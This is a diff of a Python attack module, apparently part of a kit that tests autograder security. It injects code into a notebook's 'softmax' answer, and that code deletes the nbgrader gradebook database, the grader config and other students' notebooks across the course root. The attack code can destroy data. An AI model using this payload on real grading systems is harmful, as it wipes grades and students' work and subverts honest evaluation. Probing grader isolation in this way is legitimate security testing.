@@ -6,7 +6,7 @@ SENTINELS = ("~/autograder-attack-was-here", "/tmp/autograder-attack-was-here")
 def apply(nb, kit):
     kit.replace("softmax", kit.WRONG + (
         "import glob, os\n"
-        "for pattern in ['../../../gradebook.db', '../../../nbgrader_config.py', '../../*/*/*.ipynb', '/**/gradebook.db']:\n"
+        f"for pattern in ['../../../gradebook.db', '../../../nbgrader_config.py', '../../*/*/*.ipynb', {kit.course_root!r} + '/*', {kit.course_root!r} + '/*/*/*/*.ipynb']:\n"
         "    for path in glob.glob(pattern, recursive=True):\n"
         "        try:\n"
         "            os.remove(path)\n"
